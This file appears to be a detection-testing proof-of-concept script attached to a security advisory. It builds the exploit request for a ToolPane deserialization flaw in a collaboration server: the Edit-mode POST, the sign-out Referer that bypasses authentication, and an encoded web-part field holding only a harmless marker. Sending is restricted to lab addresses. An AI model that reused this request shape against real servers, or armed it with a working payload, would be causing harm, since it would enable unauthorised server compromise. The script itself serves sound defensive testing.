#!/usr/bin/env python3
# FW-2025-0708 proof of concept: ToolPane deserialization in Halcyon Collaboration Server.
#
# Builds the request shape an attacker sends, so that detection rules and WAF policies can be
# tested in a lab. The payload is a harmless marker, not a gadget chain: a patched or
# unpatched server only logs it. By default the request is printed; --send delivers it to a
# lab server, and only to a loopback or private address.
#
# Distributed under embargo to programme partners. Your copy is individually fingerprinted.
import argparse
import base64
import ipaddress
import json
import socket
import sys
import urllib.parse
from dataclasses import dataclass, field

TOOLPANE_PATH = "/_layouts/15/ToolPane.aspx"
SIGNOUT_REFERER = "/_layouts/SignOut.aspx"
DEFAULT_PORT = 80
CONNECT_TIMEOUT = 10
MAX_RESPONSE = 0x10000
USER_AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Forewarn-Lab/1.0"
MARKER_PREFIX = "FW-2025-0708-DETECTION-TEST"


@dataclass
class LabRequest:
    """One HTTP request as the exploit sends it."""

    method: str
    path: str
    headers: dict = field(default_factory=dict)
    body: str = ""

    def to_wire(self):
        """The request as raw HTTP/1.1 text."""
        lines = [f"{self.method} {self.path} HTTP/1.1"]
        for name, value in self.headers.items():
            lines.append(f"{name}: {value}")
        lines.append("")
        lines.append(self.body)
        return "\r\n".join(lines)

    def to_json(self):
        return json.dumps(
            {"method": self.method, "path": self.path, "headers": self.headers, "body": self.body},
            indent=2,
        )


def marker_payload(run_id):
    """A web part definition that carries only a marker string.

    The real exploit places a serialized data-set gadget here; detection should not depend
    on its content, only on the request shape, so a marker is enough for testing.
    """
    marker = f"{MARKER_PREFIX}-{run_id}"
    definition = (
        '<%@ Register Tagprefix="ScorecardClient" Namespace="Halcyon.Performance" %>'
        '<ScorecardClient:ExcelDataSet CompressedDataTable="' + marker + '" runat="server"/>'
    )
    encoded = base64.b64encode(definition.encode("utf-8")).decode("ascii")
    return marker, encoded


def build_request(host, run_id, edit_mode=True):
    """The ToolPane request: the sign-out Referer is what skips authentication."""
    marker, encoded = marker_payload(run_id)
    query = {"DisplayMode": "Edit" if edit_mode else "Browse", "a": "/ToolPane.aspx"}
    form = {
        "MSOTlPn_Uri": f"http://{host}/_controltemplates/15/AclEditor.ascx",
        "MSOTlPn_DWP": encoded,
    }
    body = urllib.parse.urlencode(form)
    headers = {
        "Host": host,
        "User-Agent": USER_AGENT,
        "Referer": SIGNOUT_REFERER,
        "Content-Type": "application/x-www-form-urlencoded",
        "Content-Length": str(len(body.encode("utf-8"))),
        "Connection": "close",
    }
    path = TOOLPANE_PATH + "?" + urllib.parse.urlencode(query)
    return marker, LabRequest("POST", path, headers, body)


def is_lab_address(host):
    """Only loopback and private addresses count as a lab."""
    try:
        resolved = socket.gethostbyname(host)
    except OSError:
        return False
    address = ipaddress.ip_address(resolved)
    return address.is_loopback or address.is_private


def send(host, port, request):
    """Sends the request to a lab server and returns the status line and the first bytes."""
    if not is_lab_address(host):
        raise SystemExit(f"refusing to send to {host}: not a loopback or private address")
    wire = request.to_wire().encode("utf-8")
    with socket.create_connection((host, port), timeout=CONNECT_TIMEOUT) as conn:
        conn.sendall(wire)
        received = b""
        while len(received) < MAX_RESPONSE:
            chunk = conn.recv(4096)
            if not chunk:
                break
            received += chunk
    text = received.decode("latin-1")
    status = text.split("\r\n", 1)[0] if text else "(no answer)"
    return status, text[:512]


def expected_detections(marker):
    """What the detection guidance of this advisory should raise for this request."""
    return [
        "web log: POST " + TOOLPANE_PATH + " with DisplayMode=Edit and Referer " + SIGNOUT_REFERER,
        "network: FW-2025-0708 ToolPane exploitation attempt (sid 9025070801)",
        "payload marker in request body: " + marker,
    ]


def parse_arguments(argv):
    parser = argparse.ArgumentParser(
        description="Build (and optionally send to a lab) the FW-2025-0708 ToolPane request."
    )
    parser.add_argument("host", nargs="?", default="lab-server.invalid", help="lab server host name")
    parser.add_argument("--port", type=int, default=DEFAULT_PORT, help="lab server port")
    parser.add_argument("--run-id", default="0001", help="identifies this test run in the logs")
    parser.add_argument("--browse", action="store_true", help="use DisplayMode=Browse (not vulnerable)")
    parser.add_argument("--format", choices=["json", "wire"], default="json", help="how to print the request")
    parser.add_argument("--send", action="store_true", help="send the request to the lab server")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_arguments(sys.argv[1:] if argv is None else argv)
    marker, request = build_request(args.host, args.run_id, edit_mode=not args.browse)

    # Print what would be sent, so that it can be replayed by other tools.
    if args.format == "wire":
        print(request.to_wire())
    else:
        print(request.to_json())

    print()
    print("Expected detections:")
    for line in expected_detections(marker):
        print("  - " + line)

    if not args.send:
        return 0

    status, preview = send(args.host, args.port, request)
    print()
    print("Lab server answered: " + status)
    if "401" in status or "403" in status:
        print("The server refused the request: the update is probably installed.")
    elif status.startswith("HTTP/1.1 200"):
        print("The server accepted the request: check that every expected detection fired.")
    else:
        print("Unexpected answer; first bytes:")
        print(preview)
    return 0


if __name__ == "__main__":
    sys.exit(main())
